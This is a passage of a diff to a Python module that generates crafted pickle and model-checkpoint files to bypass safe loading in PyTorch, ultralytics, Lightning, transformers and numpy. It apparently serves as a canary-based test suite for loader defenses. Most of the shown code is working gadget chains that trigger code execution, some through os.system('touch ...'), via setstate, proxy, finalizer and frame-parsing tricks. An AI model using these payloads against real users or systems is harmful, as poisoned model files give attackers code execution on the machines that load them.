@@ -38,7 +38,8 @@ from building import (
     STACK_GLOBAL,
     TRUE,
     Member,
-    Writer,
+    Raw,
+    Tensor,
     archive,
     blob,
     call,
@@ -55,6 +56,7 @@ from building import (
     name,
     pickled,
     put,
+    saved,
     shape_of,
     stack_name,
     state_dict,
@@ -77,7 +79,6 @@ class Attack:
     kind: str
     build: Builder
     loader: str = "torch"
-    must_run: bool = True  # that it runs with the packages of the test environment; the others are tried all the same
 
 
 # --- what is made to run --------------------------------------------------------------------------
@@ -116,6 +117,9 @@ def with_anything(canary: str) -> bytes:
 
 # --- A1: methods looked up on the instance --------------------------------------------------------
 
+META = call(
+    name("torch._utils", "_rebuild_meta_tensor_no_storage"), name("torch", "float32"), shape_of(2), shape_of(1), FALSE
+)
 CARRIERS: Mapping[str, bytes] = {
     "namespace": name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ,
     "namespace_called": name("argparse", "Namespace") + EMPTY_TUPLE + REDUCE,
@@ -137,7 +141,6 @@ CARRIERS: Mapping[str, bytes] = {
     "trainer_namespace": name("ultralytics.utils", "IterableSimpleNamespace") + EMPTY_TUPLE + NEWOBJ,
     "loss": name("ultralytics.utils.loss", "v8DetectionLoss") + EMPTY_TUPLE + NEWOBJ,
     "optimizer": name("torch.optim.sgd", "SGD") + EMPTY_TUPLE + NEWOBJ,
-    "version": name("torch.torch_version", "TorchVersion") + items(text("2.0")) + NEWOBJ,
     "symbolic": name("torch", "SymInt") + EMPTY_TUPLE + NEWOBJ,
     "device_mesh": name("torch.distributed.device_mesh", "DeviceMesh") + EMPTY_TUPLE + NEWOBJ,
     "spec": name("torch.distributed.tensor._dtensor_spec", "DTensorSpec") + EMPTY_TUPLE + NEWOBJ,
@@ -145,7 +148,7 @@ CARRIERS: Mapping[str, bytes] = {
     "metric": name("torchmetrics.classification.accuracy", "MulticlassAccuracy") + EMPTY_TUPLE + NEWOBJ,
     "callback": name("lightning.pytorch.callbacks.early_stopping", "EarlyStopping") + EMPTY_TUPLE + NEWOBJ,
     "typed_storage": name("torch.storage", "TypedStorage") + EMPTY_TUPLE + NEWOBJ,
-    "parameter": call(name("torch._utils", "_rebuild_parameter"), tensor(), TRUE, call(ORDERED_DICT)),
+    "parameter": call(name("torch._utils", "_rebuild_parameter"), META, TRUE, call(ORDERED_DICT)),
 }
 # Method name, what stands under it, and the opcodes that make the unpickler call it.
 TRIGGERS: Mapping[str, tuple[str, Builder, Builder]] = {
@@ -174,15 +177,12 @@ def instance_methods() -> Iterator[tuple[str, Attack]]:
                 state = EMPTY_DICT + text(method) + weapon(canary) + SETITEM
                 if made is CARRIERS["parameter"]:
                     made = call(
-                        name("torch._utils", "_rebuild_parameter_with_state"), tensor(), TRUE, call(ORDERED_DICT), state
+                        name("torch._utils", "_rebuild_parameter_with_state"), META, TRUE, call(ORDERED_DICT), state
                     )
-                    return injected(made + fire(canary))
-                return injected(made + state + BUILD + fire(canary))
+                    return made + fire(canary)
+                return made + state + BUILD + fire(canary)
 
-            yield f"{trigger}_of_{carrier}", Attack("A1", build, must_run=carrier not in MAY_REFUSE)
-
-
-MAY_REFUSE = ("typed_storage", "metric", "symbolic", "parameter", "spec", "arguments", "optimizer", "callback", "device_mesh")  # fmt: skip
+            yield f"{trigger}_of_{carrier}", Attack("A1", zipped(build))
 
 
 def injected(payload: bytes, base: str = "plain-loop.pt") -> bytes:
@@ -202,7 +202,8 @@ def armed(method: str, weapon: bytes, carrier: str = "namespace") -> bytes:
 
 
 def zipped(payload: Builder) -> Builder:
-    return lambda canary: injected(payload(canary))
+    """A small state dict whose pickle begins with the payload."""
+    return lambda canary: torch_zip(pickled(payload(canary) + POP + state_dict(), 2))
 
 
 def key_spelled(key: bytes) -> Builder:
@@ -233,12 +234,6 @@ def state_from_pairs(canary: str) -> bytes:
 def shared_dict(canary: str) -> bytes:
     """The instance's ``__dict__`` is set to a dict that is filled afterwards."""
     made = CARRIERS["namespace"] + items(NONE, mapping(__dict__=EMPTY_DICT + put(90))) + BUILD + put(91) + POP
-    return made + get(90) + text("append") + LOAD + SETITEM + POP + get(91) + blob(evil(canary)) + APPEND
-
-
-def layer_shares_state(canary: str) -> bytes:
-    """An Ordered dict put as ``__dict__``."""
-    made = CARRIERS["layer"] + items(NONE, mapping(__dict__=EMPTY_DICT + put(90))) + BUILD + put(91) + POP
     return made + get(90) + text("append") + LOAD + SETITEM + POP + get(91) + blob(evil(canary)) + APPEND
 
 
@@ -292,15 +287,84 @@ def class_under_method(module: str, qualified: str, *arguments: bytes) -> Builde
 
 
 def from_type_state(canary: str) -> bytes:
-    made = call(
-        FROM_TYPE,
-        REBUILD,
-        PARAMETER,
-        items(storage(), integer(0), shape_of(4), shape_of(1), FALSE, call(ORDERED_DICT)),
-        mapping(append=LOAD),
-    )
-    return made + blob(evil(canary)) + APPEND
+    rebuild = name("torch._utils", "_rebuild_meta_tensor_no_storage")
+    arguments = items(name("torch", "float32"), shape_of(2), shape_of(1), FALSE)
+    return call(FROM_TYPE, rebuild, PARAMETER, arguments, mapping(append=LOAD)) + blob(evil(canary)) + APPEND
 
+
+def through(module: str, qualified: str, state: Builder, fire: Builder | None = None) -> Builder:
+    """A class whose ``__getattr__`` finds the method elsewhere than among the instance's attributes."""
+    fire = fire or (lambda canary: blob(evil(canary)) + APPEND)
+    return zipped(lambda canary: name(module, qualified) + EMPTY_TUPLE + NEWOBJ + state(canary) + BUILD + fire(canary))
+
+
+def attribute_dict(canary: str) -> bytes:
+    made = name("lightning.fabric.utilities.data", "AttributeDict") + EMPTY_TUPLE + NEWOBJ
+    return made + text("append") + LOAD + SETITEM + blob(evil(canary)) + APPEND
+
+
+LAYER = ("torch.nn.modules.linear", "Linear")
+ELSEWHERE: Mapping[str, Attack] = {
+    **{
+        f"method_in_{place}": Attack("A1", through(*LAYER, lambda _, place=place: mapping(**{place: mapping(append=LOAD)})))  # type: ignore[misc]
+        for place in ("_parameters", "_buffers", "_modules")
+    },
+    "method_in_layer_extend": Attack(
+        "A1", through(*LAYER, lambda canary: mapping(_modules=mapping(extend=with_anything(canary))), lambda _: NONE + APPEND)
+    ),
+    "method_in_attribute_dict": Attack("A1", zipped(attribute_dict)),
+    "method_in_batch": Attack(
+        "A1",
+        through("transformers.feature_extraction_utils", "BatchFeature", lambda _: mapping(data=mapping(append=LOAD))),
+    ),
+    "method_of_proxied_optimizer": Attack(
+        "A1",
+        through("lightning.pytorch.core.optimizer", "LightningOptimizer", lambda _: mapping(_optimizer=armed("append", LOAD))),
+    ),
+    "method_of_proxied_loader": Attack(
+        "A1",
+        through("accelerate.data_loader", "DataLoaderAdapter", lambda _: mapping(base_dataloader=armed("append", LOAD))),
+    ),
+    "method_of_fabric_optimizer": Attack(
+        "A1", through("lightning.fabric.wrappers", "_FabricOptimizer", lambda _: mapping(_optimizer=armed("append", LOAD)))
+    ),
+    "method_of_list": Attack(
+        "A1",
+        through(
+            "torch.nn.modules.container",
+            "ModuleList",
+            lambda canary: mapping(_modules=EMPTY_DICT, add_module=with_two(canary)),
+            lambda _: NONE + APPEND,
+        ),
+    ),
+    "method_of_module_dict": Attack(
+        "A1",
+        through(
+            "torch.nn.modules.container",
+            "ModuleDict",
+            lambda canary: mapping(_modules=EMPTY_DICT, add_module=with_two(canary)),
+            lambda _: text("x") + NONE + SETITEM,
+        ),
+    ),
+    "method_of_parameter_list": Attack(
+        "A1",
+        through(
+            "torch.nn.modules.container",
+            "ParameterList",
+            lambda canary: mapping(_size=armed("x", with_two(canary)), extend=with_anything(canary)),
+            lambda _: NONE + APPEND,
+        ),
+    ),
+    "own_extend_iterates": Attack(
+        "A1",
+        through(
+            "torch.nn.modules.container",
+            "ModuleList",
+            lambda canary: mapping(_modules=armed("values", without_arguments(canary))),
+            lambda _: NONE + APPEND,
+        ),
+    ),
+}
 
 STATES: Mapping[str, Attack] = {
     "key_of_torch_version": Attack("A1", key_spelled(call(name("torch.torch_version", "TorchVersion"), text("append")))),
@@ -312,7 +376,6 @@ STATES: Mapping[str, Attack] = {
     "state_in_ordered_dict": Attack("A1", zipped(state_in_ordered_dict)),
     "state_from_pairs": Attack("A1", zipped(state_from_pairs)),
     "shared_dict": Attack("A1", zipped(shared_dict)),
-    "shared_dict_of_layer": Attack("A1", zipped(layer_shares_state)),
     "second_build": Attack("A1", zipped(second_build)),
     "through_memo": Attack("A1", zipped(through_memo)),
     "through_dup": Attack("A1", zipped(through_dup)),
@@ -339,6 +402,7 @@ def latin(canary: str) -> bytes:
 
 
 FORMATS: Mapping[str, Attack] = {
+    "format_injected": Attack("A1", lambda canary: injected(forty(canary))),
     "format_zip": Attack("A1", lambda canary: torch_zip(pickled(state_dict(extra=forty(canary)), 2))),
     "format_zip_latin1": Attack("A1", lambda canary: torch_zip(pickled(state_dict(extra=latin(canary)), 2))),
     "format_zip_deflated": Attack(
@@ -375,11 +439,11 @@ FORMATS: Mapping[str, Attack] = {
 
 
 def asked(
-    method: str, function: Callable[[bytes], bytes], carrier: str = "namespace", must_run: bool = True
+    method: str, function: Callable[[bytes], bytes], carrier: str = "namespace"
 ) -> Attack:
     """A known function given an object whose ``method`` is the payload."""
     return Attack(
-        "A1", zipped(lambda canary: function(armed(method, without_arguments(canary), carrier))), must_run=must_run
+        "A1", zipped(lambda canary: function(armed(method, without_arguments(canary), carrier)))
     )
 
 
@@ -417,14 +481,6 @@ def loss_over(canary: str, qualified: str = "v8DetectionLoss", module: str = "ul
     return call(name(module, qualified), armed("parameters", without_arguments(canary)))
 
 
-def lowered(canary: str) -> bytes:
-    """``Module.__delattr__`` and ``__setattr__`` ask what they keep for ``discard``."""
-    keeper = MODULE_DICT + mapping(_modules=mapping(x=NONE), discard=with_anything(canary)) + BUILD
-    target = CARRIERS["layer"] + EMPTY_DICT + text("_parameters") + EMPTY_DICT + SETITEM + text("_buffers") + keeper + SETITEM + text("_modules") + EMPTY_DICT + SETITEM + BUILD  # fmt: skip
-    parameter = call(name("torch._utils", "_rebuild_parameter"), tensor(), TRUE, call(ORDERED_DICT))
-    return target + items(NONE, EMPTY_DICT + text("x") + parameter + SETITEM) + BUILD
-
-
 DUCKS: Mapping[str, Attack] = {
     **{
         f"keys_for_{qualified.lower()}": asked("keys", known(module, qualified))
@@ -432,10 +488,10 @@ DUCKS: Mapping[str, Attack] = {
     },
     "keys_for_defaultdict": asked("keys", lambda held: call(name("collections", "defaultdict"), NONE, held)),
     "keys_for_ordered_dict_newobj": Attack(
-        "A1", zipped(lambda canary: ORDERED_DICT + items(armed("keys", without_arguments(canary))) + NEWOBJ), must_run=False
+        "A1", zipped(lambda canary: ORDERED_DICT + items(armed("keys", without_arguments(canary))) + NEWOBJ)
     ),
     "keys_for_counter": Attack(
-        "A1", zipped(lambda canary: call(name("collections", "Counter"), armed("keys", without_arguments(canary)))), must_run=False
+        "A1", zipped(lambda canary: call(name("collections", "Counter"), armed("keys", without_arguments(canary))))
     ),
     "keys_of_layer": asked("keys", known("builtins", "dict"), carrier="layer"),
     "keys_of_ordered_dict": asked("keys", known("builtins", "dict"), carrier="ordered_dict"),
@@ -451,17 +507,16 @@ DUCKS: Mapping[str, Attack] = {
     "to_for_device_tensor": asked(
         "to",
         known("torch._utils", "_rebuild_device_tensor_from_cpu_tensor", after=(name("torch", "float32"), text("cpu"), FALSE)),
-        must_run=False,
     ),
     **{
         f"parameters_for_{qualified}": Attack("A1", zipped(lambda canary, q=qualified: loss_over(canary, q)))
         for qualified in ("v8DetectionLoss", "v8SegmentationLoss", "v8PoseLoss", "v8OBBLoss")
     },
     "array_for_scalar": Attack(
-        "A1", zipped(lambda canary: call(name("numpy", "float64"), armed("__array__", without_arguments(canary)))), must_run=False
+        "A1", zipped(lambda canary: call(name("numpy", "float64"), armed("__array__", without_arguments(canary))))
     ),
     "array_for_float32": Attack(
-        "A1", zipped(lambda canary: call(name("numpy", "float32"), armed("__array__", without_arguments(canary)))), must_run=False
+        "A1", zipped(lambda canary: call(name("numpy", "float32"), armed("__array__", without_arguments(canary))))
     ),
     **{
         f"values_for_{qualified}": iterated(known(module, qualified))
@@ -480,7 +535,6 @@ DUCKS: Mapping[str, Attack] = {
     "values_for_appends": Attack(
         "A1",
         zipped(lambda canary: name("collections", "deque") + EMPTY_TUPLE + REDUCE + sequence_over(without_arguments(canary)) + APPEND),
-        must_run=False,
     ),
     "values_for_partial_arguments": Attack(
         "A1",
@@ -489,15 +543,12 @@ DUCKS: Mapping[str, Attack] = {
             + items(name("torch.nn.modules.activation", "SiLU"), sequence_over(without_arguments(canary)), EMPTY_DICT, NONE)
             + BUILD
         ),
-        must_run=False,
     ),
     "symbolic_key": symbolic("is_nested_int", lambda held: EMPTY_DICT + held + NONE + SETITEM),
     "symbolic_set": symbolic("is_nested_int", lambda held: EMPTY_SET + MARK + held + ADDITEMS),
     "symbolic_frozenset": symbolic("is_nested_int", lambda held: MARK + held + FROZENSET),
-    "symbolic_bool": symbolic("bool_", known("builtins", "bool")),
+    "symbolic_bool": symbolic("is_constant", known("builtins", "bool")),
     "symbolic_int": symbolic("int_", known("builtins", "int")),
-    "symbolic_size": symbolic("is_symbolic", known("builtins", "slice")),
-    "module_attribute_discards": Attack("A1", zipped(lowered)),
 }  # fmt: skip
 
 # --- A2: constructors and __setstate__ --------------------------------------------------------------
@@ -505,17 +556,20 @@ DUCKS: Mapping[str, Attack] = {
 RECONSTRUCTOR = name("copyreg", "_reconstructor")
 
 
-def reconstructed(cls: tuple[str, str], base: tuple[str, str], state: Builder, must_run: bool = True) -> Attack:
+def reconstructed(cls: tuple[str, str], base: tuple[str, str], state: Builder) -> Attack:
     """``base.__new__(cls, state)`` and ``base.__init__(made, state)``."""
-    return Attack("A2", zipped(lambda canary: call(RECONSTRUCTOR, name(*cls), name(*base), state(canary))), must_run=must_run)
+    return Attack("A2", zipped(lambda canary: call(RECONSTRUCTOR, name(*cls), name(*base), state(canary))))
 
 
 # --- A4: two readers, two readings ------------------------------------------------------------------
 
 
+LONG = 1 << 18  # longer than the reader's buffer, so that it can't give back what it has taken
+
+
 def swallowed(canary: str) -> bytes:
     """The frame of the first pickle reaches over the good ones: CPython's reader goes on behind it."""
-    good = legacy()[len(pickled(integer(LEGACY_MAGIC), 2)) :]
+    good = legacy(mapping(note=text("x" * LONG), weight=legacy_tensor()))[len(pickled(integer(LEGACY_MAGIC), 2)) :]
     first = integer(LEGACY_MAGIC) + b"."
     hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
     length = len(first) + len(good)
@@ -529,7 +583,8 @@ def swallowed_in_storage(canary: str) -> bytes:
     data = hidden + bytes(room)
     count = len(data) // 4
     key = items(text("storage"), name("torch", "FloatStorage"), text("0"), text("cpu"), integer(count), NONE) + BINPERSID
-    body = mapping(weight=call(REBUILD, key, integer(0), shape_of(count), shape_of(1), FALSE, call(ORDERED_DICT)))
+    made = call(REBUILD, key, integer(0), shape_of(count), shape_of(1), FALSE, call(ORDERED_DICT))
+    body = mapping(note=text("x" * LONG), weight=made)
     whole = legacy(body, storages=struct.pack("<q", count) + data)
     rest = whole[len(pickled(integer(LEGACY_MAGIC), 2)) :]
     first = integer(LEGACY_MAGIC) + b"."
@@ -541,9 +596,9 @@ def frame_of(position: int) -> Builder:
 
     def build(canary: str) -> bytes:
         hidden = pickled(call(name("os", "system"), text("touch " + shlex.quote(canary))), 2)
-        parts = [integer(LEGACY_MAGIC), integer(LEGACY_PROTOCOL), mapping(little_endian=TRUE), mapping(weight=legacy_tensor()), listed(text("0"))]  # fmt: skip
+        parts = [integer(LEGACY_MAGIC), integer(LEGACY_PROTOCOL), mapping(little_endian=TRUE), mapping(note=text("x" * LONG), weight=legacy_tensor()), listed(text("0"))]  # fmt: skip
         pickles = [pickled(part, 2) for part in parts]
-        following = b"".join(pickles[position + 1 :]) + struct.pack("<q", 4) + bytes(16)
+        following = b"".join(pickles[position + 1 :]) + struct.pack("<q", 4) + bytes(16 + LONG)
         body = parts[position] + b"."
         framed = b"\x80\x04\x95" + struct.pack("<Q", len(body) + len(following)) + body
         return b"".join(pickles[:position]) + framed + following + hidden
@@ -583,22 +638,22 @@ def stream_and_tar(canary: str) -> bytes:
 def state_on_module(canary: str) -> bytes:
     """BUILD on what a persistent id hands back: a class, to which it gives a ``__setstate__``."""
     module = items(text("module"), name("argparse", "Namespace"), NONE, NONE) + BINPERSID
-    patched = module + items(NONE, mapping(__setstate__=LOAD)) + BUILD
-    return legacy(mapping(weight=legacy_tensor(), extra=patched + EMPTY_TUPLE + NEWOBJ + blob(evil(canary)) + BUILD))
+    patched = module + items(NONE, mapping(__setstate__=with_anything(canary))) + BUILD
+    return legacy(mapping(weight=legacy_tensor(), extra=patched + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD))
 
 
 def state_on_module_zip(canary: str) -> bytes:
     """The same where the class comes through the memo."""
     module = items(text("module"), name("argparse", "Namespace"), NONE, NONE) + BINPERSID + put(90)
-    patched = module + items(NONE, mapping(append=LOAD)) + BUILD + POP
+    patched = module + items(NONE, mapping(append=with_anything(canary))) + BUILD + POP
     made = name("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
-    return legacy(patched + mapping(weight=legacy_tensor(), extra=made + blob(evil(canary)) + APPEND))
+    return legacy(patched + mapping(weight=legacy_tensor(), extra=made + NONE + APPEND))
 
 
 def attribute_of_module(canary: str) -> bytes:
     """A persistent id that hands back an instance instead of a class, and is then given a state."""
     module = items(text("module"), CARRIERS["namespace"], NONE, NONE) + BINPERSID
-    return legacy(mapping(weight=legacy_tensor(), extra=module + mapping(append=LOAD) + BUILD + blob(evil(canary)) + APPEND))  # fmt: skip
+    return legacy(mapping(weight=legacy_tensor(), extra=module + mapping(extend=with_anything(canary)) + BUILD + NONE + APPEND))  # fmt: skip
 
 
 def callable_module(canary: str) -> bytes:
@@ -643,7 +698,7 @@ READERS: Mapping[str, Attack] = {
     "tar_and_stream": Attack("A4", stream_and_tar),
     "tar_and_zip": Attack(
         "A4",
-        lambda canary: old_tar({"storages": tar_pickle(canary)}) + torch_zip(pickled(state_dict(), 2)), must_run=False,
+        lambda canary: old_tar({"storages": tar_pickle(canary)}) + torch_zip(pickled(state_dict(), 2)),
     ),
     "state_on_module": Attack("A4", state_on_module),
     "state_on_module_memo": Attack("A4", state_on_module_zip),
@@ -679,11 +734,10 @@ READERS: Mapping[str, Attack] = {
 # --- A5: functions under other packages' names ------------------------------------------------------
 
 
-def calling(module: str, qualified: str, *arguments: Callable[[str], bytes], must_run: bool = True, spelled: Callable[[str, str], bytes] = name) -> Attack:  # fmt: skip
+def calling(module: str, qualified: str, *arguments: Callable[[str], bytes], spelled: Callable[[str, str], bytes] = name) -> Attack:  # fmt: skip
     return Attack(
         "A5",
         zipped(lambda canary: call(spelled(module, qualified), *(argument(canary) for argument in arguments))),
-        must_run=must_run,
     )
 
 
@@ -706,17 +760,16 @@ def expression(canary: str) -> bytes:
 def just(value: bytes) -> Callable[[str], bytes]:
     return lambda _canary: value
 BASES: Mapping[str, Attack] = {
-    "base_of_files": reconstructed(("io", "FileIO"), ("io", "FileIO"), path, must_run=False),
-    "base_memmap": reconstructed(("numpy", "memmap"), ("numpy", "memmap"), path, must_run=False),
-    "base_argument_parser": reconstructed(("argparse", "Namespace"), ("argparse", "ArgumentParser"), path, must_run=False),
+    "base_of_files": reconstructed(("io", "FileIO"), ("io", "FileIO"), path),
+    "base_memmap": reconstructed(("numpy", "memmap"), ("numpy", "memmap"), path),
+    "base_argument_parser": reconstructed(("argparse", "Namespace"), ("argparse", "ArgumentParser"), path),
     "base_model": reconstructed(
         ("ultralytics.nn.tasks", "DetectionModel"),
         ("ultralytics.nn.tasks", "DetectionModel"),
-        lambda canary: MODEL_YAML(canary),
-        must_run=False,
+        lambda canary: layers(layer("nn.Identity"), activation=expression(canary)),
     ),
     "base_backend": reconstructed(
-        ("ultralytics.nn.autobackend", "AutoBackend"), ("ultralytics.nn.autobackend", "AutoBackend"), path, must_run=False
+        ("ultralytics.nn.autobackend", "AutoBackend"), ("ultralytics.nn.autobackend", "AutoBackend"), path
     ),
     "base_ordered_dict": reconstructed(
         ("collections", "OrderedDict"),
@@ -727,7 +780,6 @@ BASES: Mapping[str, Attack] = {
         ("torch.nn.modules.container", "Sequential"),
         ("builtins", "object"),
         lambda canary: sequence_over(without_arguments(canary)),
-        must_run=False,
     ),
     "base_set": reconstructed(
         ("builtins", "set"), ("builtins", "set"), lambda canary: sequence_over(without_arguments(canary))
@@ -736,12 +788,12 @@ BASES: Mapping[str, Attack] = {
         ("collections", "deque"), ("collections", "deque"), lambda canary: sequence_over(without_arguments(canary))
     ),
     "base_tuple": reconstructed(
-        ("torch", "Size"), ("builtins", "tuple"), lambda canary: sequence_over(without_arguments(canary)), must_run=False
+        ("torch", "Size"), ("builtins", "tuple"), lambda canary: sequence_over(without_arguments(canary))
     ),
     "base_counter": reconstructed(
-        ("collections", "Counter"), ("collections", "Counter"), lambda canary: sequence_over(without_arguments(canary)), must_run=False
+        ("collections", "Counter"), ("collections", "Counter"), lambda canary: sequence_over(without_arguments(canary))
     ),
-    "base_partial": reconstructed(("functools", "partial"), ("functools", "partial"), without_arguments, must_run=False),
+    "base_partial": reconstructed(("functools", "partial"), ("functools", "partial"), without_arguments),
     "base_parameter": reconstructed(
         ("torch.nn.parameter", "Parameter"),
         ("torch.nn.parameter", "Parameter"),
@@ -756,53 +808,33 @@ BASES: Mapping[str, Attack] = {
         ("ultralytics.utils.loss", "v8DetectionLoss"),
         ("ultralytics.utils.loss", "v8DetectionLoss"),
         lambda canary: armed("parameters", without_arguments(canary)),
-        must_run=False,
     ),
-    "base_symbolic": reconstructed(("torch", "SymInt"), ("torch", "SymInt"), without_arguments, must_run=False),
+    "base_symbolic": reconstructed(("torch", "SymInt"), ("torch", "SymInt"), without_arguments),
 }
 
 
-def MODEL_YAML(canary: str) -> bytes:  # noqa: N802
-    return mapping(activation=expression(canary), backbone=EMPTY_LIST, head=EMPTY_LIST, nc=integer(1), ch=integer(3))
-
-
-def stated(module: str, qualified: str, state: Builder, must_run: bool = True) -> Attack:
+def stated(module: str, qualified: str, state: Builder) -> Attack:
     """A class of a known trainer whose ``__setstate__`` does more than keep what it is given."""
-    return Attack("A2", zipped(lambda canary: name(module, qualified) + EMPTY_TUPLE + NEWOBJ + state(canary) + BUILD), must_run=must_run)
+    return Attack("A2", zipped(lambda canary: name(module, qualified) + EMPTY_TUPLE + NEWOBJ + state(canary) + BUILD))
 
 
-def made(module: str, qualified: str, *arguments: Builder, must_run: bool = True, opcode: bytes = NEWOBJ) -> Attack:
+def made(module: str, qualified: str, *arguments: Builder, opcode: bytes = NEWOBJ) -> Attack:
     """A class of a known trainer whose ``__new__`` asks its arguments for methods."""
     return Attack(
         "A2",
         zipped(lambda canary: name(module, qualified) + items(*(argument(canary) for argument in arguments)) + opcode),
-        must_run=must_run,
     )
+
+
+def with_two(canary: str) -> bytes:
+    """A callable that runs the payload when it is called with two arguments: it asks what it keeps for ``detach``."""
+    return call(PARTIAL, name("torch._utils", "_rebuild_parameter"), armed("detach", without_arguments(canary)))
 
 
 def group_state(canary: str) -> bytes:
     """Optimizers ask their groups for ``setdefault``."""
-    return mapping(param_groups=listed(armed("setdefault", with_two(canary))), defaults=EMPTY_DICT, state=EMPTY_DICT)
-
-
-def with_two(canary: str) -> bytes:
-    """A callable that runs the payload when it is called with two arguments."""
-    made = PARTIAL + items(FROM_TYPE, REBUILD, PARAMETER) + REDUCE
-    return made + items(CTOR, EMPTY_TUPLE, EMPTY_DICT, NONE) + BUILD if False else two_arguments(canary)
-
-
-def two_arguments(canary: str) -> bytes:
-    """The function and the type are fixed; what is asked for and its default become arguments and state.
-
-    ``_rebuild_from_type_v2(function, type, "nesterov", False)`` calls ``function(*"nesterov")``: eight arguments,
-    which a partial over keywords swallows.
-    """
-    inner = with_anything(canary)
-    return refilled(FROM_TYPE, REBUILD + PARAMETER, inner, PARAMETER)
-
-
-def mapped(**entries: Builder) -> Builder:
-    return lambda canary: mapping(**{key: value(canary) for key, value in entries.items()})
+    groups = listed(armed("setdefault", with_two(canary)))
+    return mapping(param_groups=groups, defaults=EMPTY_DICT, state=EMPTY_DICT)
 
 
 TRAINERS: Mapping[str, Attack] = {
@@ -826,7 +858,7 @@ TRAINERS: Mapping[str, Attack] = {
     ),
     "buffer_detaches": made("torch.nn.parameter", "Buffer", lambda canary: armed("detach", without_arguments(canary))),
     "teacher_state": stated(
-        "ultralytics.nn.distill_model", "DistillationModel", lambda canary: armed("setdefault", with_anything(canary)), must_run=False
+        "ultralytics.nn.distill_model", "DistillationModel", lambda canary: armed("setdefault", with_anything(canary))
     ),
     "optimizer_groups": stated("torch.optim.sgd", "SGD", group_state),
     "optimizer_groups_adam": stated("torch.optim.adam", "Adam", group_state),
@@ -834,10 +866,9 @@ TRAINERS: Mapping[str, Attack] = {
         "transformers.models.roformer.tokenization_roformer",
         "RoFormerTokenizer",
         lambda canary: mapping(_tokenizer=armed("get_vocab", without_arguments(canary))),
-        must_run=False,
     ),
     "attention_state": stated(
-        "torch.nn.modules.activation", "MultiheadAttention", lambda canary: sequence_over(without_arguments(canary)), must_run=False
+        "torch.nn.modules.activation", "MultiheadAttention", lambda canary: sequence_over(without_arguments(canary))
     ),
     "module_state_has_keys": stated(
         "torch.nn.modules.linear", "Linear", lambda canary: armed("keys", without_arguments(canary))
@@ -851,17 +882,208 @@ TRAINERS: Mapping[str, Attack] = {
     "batch_state": stated(
         "transformers.feature_extraction_utils", "BatchFeature", lambda canary: sequence_over(without_arguments(canary))
     ),
-    "yaml_of_model": Attack("A2", lambda canary: yolo_with_yaml(canary), loader="train"),
 }
 
 
-def yolo_with_yaml(canary: str) -> bytes:
-    checkpoint = ultralytics_checkpoint(ema=None, model=None)
-    return torch_zip(pickled(Writer().value(checkpoint)))
+def yolo(**state: Builder) -> Builder:
+    """A file of the ultralytics trainer whose stored model has more in its state."""
+
+    def build(canary: str) -> bytes:
+        model = detector(**{key: Raw(value(canary)) for key, value in state.items()})
+        head = model.state["_modules"]["model"].state["_modules"]["1"].state
+        head.update({key: Tensor((1,), 8.0) for key in ("stride", "anchors", "strides")})
+        return saved(ultralytics_checkpoint(ema=model))
+
+    return build
 
 
-def called(module: str, qualified: str, *arguments: Callable[[str], bytes], must_run: bool = True) -> Attack:
-    return calling(module, qualified, *arguments, must_run=must_run)
+def layers(*rows: bytes, **entries: bytes) -> bytes:
+    return mapping(nc=integer(2), ch=integer(3), channels=integer(3), backbone=listed(*rows), head=EMPTY_LIST, **entries)
+
+
+def layer(kind: str, *arguments: bytes) -> bytes:
+    return listed(integer(-1), integer(1), text(kind), listed(*arguments))
+
+
+def dropped(module: str, qualified: str, state: Builder) -> Attack:
+    """A class whose ``__del__`` asks what it keeps: it runs when the object is thrown away."""
+    return stated(module, qualified, state)
+
+
+STRATEGY = name("lightning.pytorch.strategies.single_device", "SingleDeviceStrategy") + EMPTY_TUPLE + NEWOBJ
+FINALIZERS: Mapping[str, Attack] = {
+    "finalizer_of_callback": dropped(
+        "transformers.integrations.integration_utils",
+        "NeptuneCallback",
+        lambda canary: mapping(_volatile_checkpoints_dir=NONE, _run=armed("stop", without_arguments(canary))),
+    ),
+    "finalizer_of_mlflow": dropped(
+        "transformers.integrations.integration_utils",
+        "MLflowCallback",
+        lambda canary: mapping(_auto_end_run=TRUE, _ml_flow=armed("active_run", without_arguments(canary))),
+    ),
+    "finalizer_of_profiler": dropped(
+        "lightning.pytorch.profilers.simple",
+        "SimpleProfiler",
+        lambda canary: mapping(_stage=NONE, _write_stream=NONE, _output_file=armed("close", without_arguments(canary))),
+    ),
+    "finalizer_of_profiler_teardown": dropped(
+        "lightning.pytorch.profilers.simple", "SimpleProfiler", lambda canary: mapping(_stage=NONE, teardown=stage(canary))
+    ),
+    "finalizer_of_summary": dropped(
+        "lightning.pytorch.utilities.model_summary.model_summary",
+        "LayerSummary",
+        lambda canary: mapping(_hook_handle=armed("remove", without_arguments(canary))),
+    ),
+    "finalizer_of_summary_method": dropped(
+        "lightning.pytorch.utilities.model_summary.model_summary",
+        "LayerSummary",
+        lambda canary: mapping(detach_hook=without_arguments(canary)),
+    ),
+    "finalizer_of_backend": dropped(
+        "ultralytics.nn.backends.ascend",
+        "AscendBackend",
+        lambda canary: mapping(model=armed("free_resource", without_arguments(canary))),
+    ),
+    "finalizer_of_other_backend": dropped(
+        "ultralytics.nn.backends.hailo",
+        "HailoBackend",
+        lambda canary: mapping(_stack=armed("close", without_arguments(canary))),
+    ),
+    "finalizer_of_graphs": dropped(
+        "transformers.generation.continuous_batching.utils",
+        "CudaGraphBuffer",
+        lambda canary: mapping(_storage=armed("popitem", without_arguments(canary))),
+    ),
+    "metric_wraps": stated(
+        "torchmetrics.classification.accuracy", "MulticlassAccuracy", lambda canary: mapping(_wrap_update=with_anything(canary))
+    ),
+    "metric_wraps_compute": stated(
+        "torchmetrics.classification.accuracy",
+        "MulticlassAccuracy",
+        lambda canary: mapping(_wrap_compute=with_anything(canary)),
+    ),
+    "strategy_optimizers": stated(
+        "lightning.pytorch.strategies.single_device",
+        "SingleDeviceStrategy",
+        lambda canary: mapping(_optimizers=sequence_over(without_arguments(canary))),
+    ),
+    "optimizer_patches": stated(
+        "torch.optim.sgd",
+        "SGD",
+        lambda canary: mapping(defaults=armed("setdefault", with_two(canary))),
+    ),
+    "optimizer_own_method": stated(
+        "torch.optim.sgd", "SGD", lambda canary: mapping(defaults=EMPTY_DICT, _patch_step_function=without_arguments(canary))
+    ),
+    "optimizer_state_get": stated(
+        "torch.optim.adam",
+        "Adam",
+        lambda canary: mapping(
+            defaults=EMPTY_DICT,
